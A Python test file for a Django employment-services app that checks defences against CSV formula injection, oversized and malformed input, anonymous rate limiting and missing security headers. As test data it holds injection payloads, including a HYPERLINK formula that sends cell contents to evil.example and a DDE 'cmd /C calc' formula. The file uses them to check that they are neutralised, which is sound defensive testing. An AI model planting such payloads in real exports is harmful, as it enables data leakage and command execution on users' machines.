"""Issue 17, points 13–16: CSV injection, bad input and abuse, anonymous heavy calls, headers."""

import csv
import io
import json
import re
import threading
from pathlib import Path

import pytest
from django.test import Client, override_settings
from hypothesis import given
from hypothesis import strategies as st

from werkregie.accounts.models import Role
from werkregie.api import guard
from werkregie.core.csvsafe import TRIGGERS, safe_cell
from werkregie.organisations.models import OrganisationKind
from werkregie.people.models import Person
from werkregie.rules.calc import batch

from . import factories as f

VALID = {"insz": "85.07.30-033.28", "first_name": "Ann", "last_name": "Peeters", "birth_date": "1985-07-30", "sex": "F",
         "municipality": "44021", "postal_code": "9000"}
TEN_MB = "x" * (10 * 1024 * 1024)


@pytest.fixture
def counsellor(db):
    return f.user(Role.COUNSELLOR)


def bearer(user):
    return {"HTTP_AUTHORIZATION": f"Bearer {f.token(user)}"}


def assert_problem(response, status):
    assert response.status_code == status, response.content[:300]
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["status"] == status


# -- 13: CSV exports ----------------------------------------------------------------------------------------------------


@given(st.text())
def test_no_text_cell_is_left_to_start_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(TRIGGERS) or re.fullmatch(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?", cell)
    assert cell in (text, "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_are_never_touched(number):
    assert safe_cell(number) is number
    assert safe_cell(str(number)) == str(number) or not re.fullmatch(r"[+-]?[\d.,]+([eE][+-]?\d+)?", str(number))


def test_the_person_export_neutralises_formulas(db):
    team = f.organisation(OrganisationKind.VDAB_TEAM)
    f.person(team=team, first_name='=HYPERLINK("http://evil.example/?"&A1)', last_name="+SUM(1+1)")
    f.person(team=team, first_name="@SUM(A1)", last_name="-2+3")
    web = Client()
    web.force_login(f.user(Role.COUNSELLOR, team))
    rows = list(csv.reader(io.StringIO(web.get("/export/personen.csv").content.decode("utf-8-sig")), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in cells and "'+SUM(1+1)" in cells and "'@SUM(A1)" in cells and "'-2+3" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not re.fullmatch(r"-[\d.,]+", c))]


def test_rules_batch_neutralises_text_but_keeps_numbers_exact(db, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("naam;correctie;brutoloon;prestatiebreuk\n=cmd|' /C calc'!A0;-12,50;32399,88;1\n@SUM(A1);-7;21000.01;0,5\n", encoding="utf-8")
    target = tmp_path / "out.csv"
    batch("2024", source, ["jobbonus"], target)
    rows = list(csv.reader(io.StringIO(Path(target).read_text(encoding="utf-8"))))
    assert rows[1][:4] == ["'=cmd|' /C calc'!A0", "-12,50", "32399,88", "1"]
    assert rows[2][:4] == ["'@SUM(A1)", "-7", "21000.01", "0,5"]


# -- 14: bad input ------------------------------------------------------------------------------------------------------


def test_a_ten_megabyte_body_is_a_413_problem(client, counsellor):
    assert_problem(client.post("/api/v1/persons", data=TEN_MB, content_type="application/json", **bearer(counsellor)), 413)
    assert_problem(client.post("/api/v1/matching/skills", data=TEN_MB, content_type="application/json"), 413)
    assert client.post("/login/", data=TEN_MB, content_type="application/x-www-form-urlencoded").status_code == 413


@pytest.mark.parametrize("page", [2**62, 2**63, 2**64, -(2**63)])
def test_huge_page_numbers_are_a_4xx_problem(client, counsellor, page):
    for path in ("/api/v1/persons", "/api/v1/me/access-log", "/api/v1/screening/worklist"):
        response = client.get(f"{path}?page={page}", **bearer(counsellor))
        assert 400 <= response.status_code < 500 and response["Content-Type"] == "application/problem+json", (path, response.content[:200])


def test_full_width_digits_in_an_insz_are_refused_clearly(client, counsellor):
    full_width = "８５０７３００３３２８"
    response = client.post("/api/v1/persons", data=json.dumps({**VALID, "insz": full_width}), content_type="application/json", **bearer(counsellor))
    assert_problem(response, 422)
    assert any(e["field"] == "insz" and "cijfers" in e["message"] for e in response.json()["errors"])
    assert not Person.objects.exists()


def test_delete_on_a_path_without_it_is_a_405_problem(client, counsellor):
    response = client.delete("/api/v1/persons/1", **bearer(counsellor))
    assert_problem(response, 405)
    assert "GET" in response["Allow"]


@pytest.mark.parametrize("name", ["Ann\u202eeteP", "An\u200bn", "Ann\x07", "A\u2066nn\u2069", "\ufeffAnn", "An\u2028n"])
def test_names_refuse_bidi_zero_width_and_control_characters(client, counsellor, name):
    response = client.post("/api/v1/persons", data=json.dumps({**VALID, "first_name": name}), content_type="application/json", **bearer(counsellor))
    assert_problem(response, 422)
    assert [e["field"] for e in response.json()["errors"]] == ["first_name"]


def test_input_is_nfc_normalised(client, counsellor):
    decomposed = "Ame\u0301lie"
    body = json.dumps({**VALID, "first_name": decomposed, "last_name": "Lefe\u0300vre"})  # also as \\u escapes
    response = client.post("/api/v1/persons", data=body, content_type="application/json", **bearer(counsellor))
    assert response.status_code == 201, response.content
    person = Person.objects.get()
    assert (person.first_name, person.last_name) == ("Amélie", "Lefèvre")


# -- 15: anonymous heavy calls ------------------------------------------------------------------------------------------


def skills(client, text, ip="198.51.100.20", **extra):
    return client.post("/api/v1/matching/skills", data=json.dumps({"text": text, "language": "nl"}), content_type="application/json", REMOTE_ADDR=ip, **extra)


def test_anonymous_texts_are_capped_but_logged_in_users_may_send_more(client, counsellor):
    long_text = "Ik ben lasser en heftruckchauffeur. " * 1200  # about 43 kB
    assert_problem(skills(client, long_text), 413)
    assert skills(client, long_text, **bearer(counsellor)).status_code == 200


@override_settings(WERKREGIE_ANON_RATE="3/m")
def test_anonymous_calls_are_rate_limited_per_client(client, counsellor):
    for _ in range(3):
        assert skills(client, "lasser").status_code == 200
    refused = skills(client, "lasser")
    assert_problem(refused, 429)
    assert int(refused["Retry-After"]) >= 1
    assert skills(client, "lasser", ip="198.51.100.21").status_code == 200  # another client
    assert skills(client, "lasser", **bearer(counsellor)).status_code == 200  # logged-in users are not counted


@override_settings(WERKREGIE_ANON_HEAVY_SLOTS=1)
def test_anonymous_work_has_a_few_slots_of_its_own(client, counsellor):
    slots = guard._semaphore()
    assert slots.acquire(blocking=False)  # one anonymous analysis is running
    try:
        busy = skills(client, "lasser")
        assert_problem(busy, 503)
        assert busy["Retry-After"] == "5"
        assert skills(client, "lasser", **bearer(counsellor)).status_code == 200
    finally:
        slots.release()
    assert skills(client, "lasser").status_code == 200


def test_slots_are_released_when_the_work_fails(client):
    with override_settings(WERKREGIE_ANON_HEAVY_SLOTS=1):
        threads = [threading.Thread(target=lambda: skills(Client(), "")) for _ in range(3)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert guard._semaphore().acquire(blocking=False)
        guard._semaphore().release()


# -- 16: headers --------------------------------------------------------------------------------------------------------


def test_pages_carry_a_content_security_policy_without_inline_scripts(client, db):
    response = client.get("/login/")
    policy = response["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if d.strip())
    assert directives["script-src"] == "'self'" and "unsafe" not in directives["script-src"]
    assert directives["frame-ancestors"] == "'none'" and directives["object-src"] == "'none'"


def test_templates_have_no_inline_scripts_or_event_handlers():
    root = Path(__file__).resolve().parent.parent / "werkregie"
    offenders = []
    for template in root.glob("*/templates/**/*.html"):
        text = template.read_text(encoding="utf-8")
        for tag in re.findall(r"<script\b[^>]*>", text):
            if "src=" not in tag and 'type="application/json"' not in tag:
                offenders.append(f"{template}: {tag}")
        offenders += [f"{template}: {m}" for m in re.findall(r"\son[a-z]+\s*=\s*[\"']", text)]
        offenders += [f"{template}: {m}" for m in re.findall(r"javascript:", text)]
    assert not offenders


def test_pages_and_api_responses_are_not_stored(client, counsellor):
    web = Client()
    web.force_login(counsellor)
    for response in (web.get("/caseload/"), client.get("/api/v1/persons", **bearer(counsellor)), client.get("/api/v1/me", **bearer(counsellor)),
                     client.get("/api/v1/persons/999999", **bearer(counsellor)), client.get("/login/")):
        assert "no-store" in response["Cache-Control"], response


def test_a_day_without_a_dated_value_is_a_4xx_problem(client, counsellor):
    # found by the fuzzer (bench/security_fuzz.py): ?on=0406-04-22 gave a 500
    response = client.get("/api/v1/compliance/rules?on=0406-04-22", **bearer(counsellor))
    assert 400 <= response.status_code < 500 and response["Content-Type"] == "application/problem+json"
